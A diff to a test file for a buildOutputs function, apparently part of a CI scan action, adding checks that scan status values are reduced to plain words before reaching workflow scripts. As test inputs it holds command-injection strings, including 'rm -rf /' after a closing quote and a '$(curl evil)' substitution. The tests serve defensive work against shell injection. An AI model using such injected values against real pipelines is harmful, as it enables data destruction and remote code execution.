@@ -95,6 +95,26 @@ describe('buildOutputs', () => {
       {},
     )
     expect(outputs['scan-id']).toBe('id "; rm -rf /')
-    expect(outputs['scan-status']).toBe('done X=1')
+    // A status goes out only as a plain word: outputs get pasted into run: scripts.
+    expect(outputs['scan-status']).toBe('unknown')
+    const plain = buildOutputs(makeReport({ scan: { id: 'a', status: ' Completed ' } }))
+    expect(plain['scan-status']).toBe('completed')
+    const shell = buildOutputs(makeReport({ scan: { id: 'a', status: 'x$(curl evil)`id`' } }))
+    expect(shell['scan-status']).toBe('unknown')
+  })
+
+  it('hands on no count the gate could not trust', () => {
+    const outputs = buildOutputs(
+      makeReport({
+        counts: makeCounts({ critical: 0 }),
+        gate: { result: 'unknown', threshold: 'high', warnOnly: false, reason: 'r' },
+      }),
+    )
+    expect(outputs).toMatchObject({
+      result: 'unknown',
+      'findings-total': '',
+      'findings-critical': '',
+      'findings-info': '',
+    })
   })
 })
